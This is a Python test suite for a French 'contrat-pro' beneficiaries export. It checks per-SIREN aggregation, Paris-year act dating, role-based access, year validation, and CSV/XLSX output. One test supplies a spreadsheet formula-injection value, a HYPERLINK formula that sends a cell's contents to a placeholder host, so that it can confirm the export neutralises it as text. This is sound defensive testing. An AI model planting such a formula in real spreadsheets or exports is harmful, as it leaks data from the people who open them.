"""The yearly list of the contrat-pro beneficiaries (seed 003 section 4) on a real read model,
SQLite and PostgreSQL: one line per SIREN, the aids whose act (first change to `en_cours` or
`attente_signature`) falls in the Paris calendar year, exact amounts, the act types, the files."""

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime
from decimal import Decimal

import openpyxl  # type: ignore[import-untyped]
import pytest
from sqlalchemy import Engine
from sqlmodel import Session

from tests.services.donnees_beneficiaires import SIREN_A, SIREN_B, remplir
from workers.runtime.database import engine_for, upgrade
from workers.services import beneficiaires
from workers.services.beneficiaires import (
    AideAccordee,
    LigneBeneficiaire,
    ListeBeneficiaires,
    liste_beneficiaires,
)
from workers.services.utilisateurs import AccesRefuse, Identite, Role
from workers.services.validation import EntreeInvalide

SUPERVISEUR = Identite("sup", Role.SUPERVISEUR, ("*",), None)
INSTRUCTEUR_CP = Identite("ins", Role.INSTRUCTEUR, ("contrat-pro",), None)
SUPERVISEUR_CAE = Identite("sup-cae", Role.SUPERVISEUR, ("cae-dom",), None)
LECTEUR = Identite("lec", Role.LECTEUR, ("*",), None)


@pytest.fixture
def engine(database_url: str) -> Iterator[Engine]:
    engine = engine_for(database_url)
    upgrade(engine)
    with Session(engine) as session:
        remplir(session)
    yield engine
    engine.dispose()


def _liste(engine: Engine, annee: int, acteur: Identite | None = SUPERVISEUR) -> ListeBeneficiaires:
    with Session(engine) as session:
        return liste_beneficiaires(session, acteur, annee)


def test_one_line_per_siren_with_the_aids_granted_that_year_and_exact_amounts(
    engine: Engine,
) -> None:
    liste = _liste(engine, 2025)

    assert liste.lignes == [
        LigneBeneficiaire(
            siren=SIREN_A,
            nom="",
            nombre_aides=2,
            montant_accorde=Decimal("10800.00"),
            montant_verse=Decimal("4800.00"),
            actes="arrete+convention",
            dossiers=("contrat-pro:A1", "contrat-pro:A2"),
        ),
        LigneBeneficiaire(
            siren=SIREN_B,
            nom="",
            nombre_aides=1,
            montant_accorde=Decimal("3000.00"),
            montant_verse=Decimal("0.00"),
            actes="arrete",
            dossiers=("contrat-pro:B1",),
        ),
    ]
    assert (liste.nombre_aides, liste.montant_accorde, liste.montant_verse) == (
        3,
        Decimal("13800.00"),
        Decimal("4800.00"),
    )
    assert liste.sans_date_acte == ["contrat-pro:X1"]


def test_the_year_is_the_act_s_in_paris_and_the_signature_does_not_move_it(
    engine: Engine,
) -> None:
    """B1's act: 31 December 2024 23:30 UTC, 1 January 2025 in Paris. A2's convention was
    decided in 2025 and signed in 2026: it counts in 2025 only."""
    assert [(ligne.siren, ligne.dossiers) for ligne in _liste(engine, 2024).lignes] == [
        (SIREN_A, ("contrat-pro:A0",))
    ]
    assert _liste(engine, 2024).montant_verse == Decimal("2500.00")
    assert _liste(engine, 2026).lignes == []


def test_access_needs_an_export_role_and_the_contrat_pro_scheme(engine: Engine) -> None:
    assert _liste(engine, 2025, INSTRUCTEUR_CP).nombre_aides == 3
    assert _liste(engine, 2025, None).nombre_aides == 3  # a trusted caller (CLI)
    with pytest.raises(AccesRefuse, match="rôle 'lecteur'"):
        _liste(engine, 2025, LECTEUR)
    with pytest.raises(AccesRefuse, match="contrat-pro"):
        _liste(engine, 2025, SUPERVISEUR_CAE)


@pytest.mark.parametrize("annee", ["25", "1999", "2101", "deux mille", "", "２０２５", "2025.0"])
def test_a_bad_year_is_refused_naming_the_field(annee: str) -> None:
    with pytest.raises(EntreeInvalide) as erreur:
        beneficiaires.lire_annee(annee)

    assert [(e.champ, e.valeur) for e in erreur.value.erreurs] == [("annee", annee)]
    assert "2000 à 2100" in erreur.value.erreurs[0].regle


def test_the_csv_has_the_header_the_lines_by_siren_and_a_total_line(engine: Engine) -> None:
    texte = beneficiaires.texte_csv(_liste(engine, 2025))

    assert texte.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(texte.lstrip("\ufeff")), delimiter=";")) == [
        ["siren", "nom", "nombre_aides", "montant_accorde", "montant_verse", "actes"],
        [SIREN_A, "", "2", "10800.00", "4800.00", "arrete+convention"],
        [SIREN_B, "", "1", "3000.00", "0.00", "arrete"],
        ["TOTAL", "2 bénéficiaire(s)", "3", "13800.00", "4800.00", ""],
    ]


def test_the_workbook_has_the_same_lines_siren_as_text_and_amounts_as_numbers(
    engine: Engine,
) -> None:
    feuille = openpyxl.load_workbook(io.BytesIO(beneficiaires.octets_xlsx(_liste(engine, 2025))))[
        "beneficiaires"
    ]
    lignes = [[c.value for c in ligne] for ligne in feuille.iter_rows()]

    assert lignes[0] == list(beneficiaires.COLONNES)
    assert [ligne[0] for ligne in lignes[1:]] == [SIREN_A, SIREN_B, "TOTAL"]
    assert [Decimal(str(ligne[3])) for ligne in lignes[1:]] == [
        Decimal("10800"),
        Decimal("3000"),
        Decimal("13800"),
    ]
    montant = feuille.cell(row=2, column=4)
    assert (montant.data_type, montant.number_format) == ("n", "#,##0.00")
    assert feuille.cell(row=2, column=1).data_type == "s"


def test_a_name_that_would_start_a_formula_is_written_as_text() -> None:
    formule = '=HYPERLINK("http://x.invalid/?"&A1;"ok")'
    ligne = LigneBeneficiaire("012345678", formule, 1, Decimal("500"), Decimal("0"), "arrete")
    liste = ListeBeneficiaires(annee=2025, lignes=[ligne])

    lu = list(csv.reader(io.StringIO(beneficiaires.texte_csv(liste)), delimiter=";"))
    assert lu[1][:2] == ["012345678", f"'{formule}"]
    assert lu[1][3] == "500.00"
    feuille = openpyxl.load_workbook(io.BytesIO(beneficiaires.octets_xlsx(liste)))["beneficiaires"]
    assert (feuille.cell(row=2, column=2).value, feuille.cell(row=2, column=2).data_type) == (
        formule,
        "s",
    )
    assert feuille.cell(row=2, column=1).value == "012345678"


def test_the_siren_is_the_siret_s_first_nine_digits_and_a_known_name_is_used() -> None:
    aide = AideAccordee(
        dossier="contrat-pro:Z",
        siret="01234567800019",
        acte="convention",
        date_acte=datetime(2025, 7, 1, tzinfo=UTC),
        montant_accorde=Decimal("6000.00"),
        montant_verse=Decimal("0.00"),
    )

    (ligne,) = beneficiaires.regrouper([aide], {"012345678": "Boulangerie du Port"})

    assert (ligne.siren, ligne.nom, ligne.actes) == (
        "012345678",
        "Boulangerie du Port",
        "convention",
    )
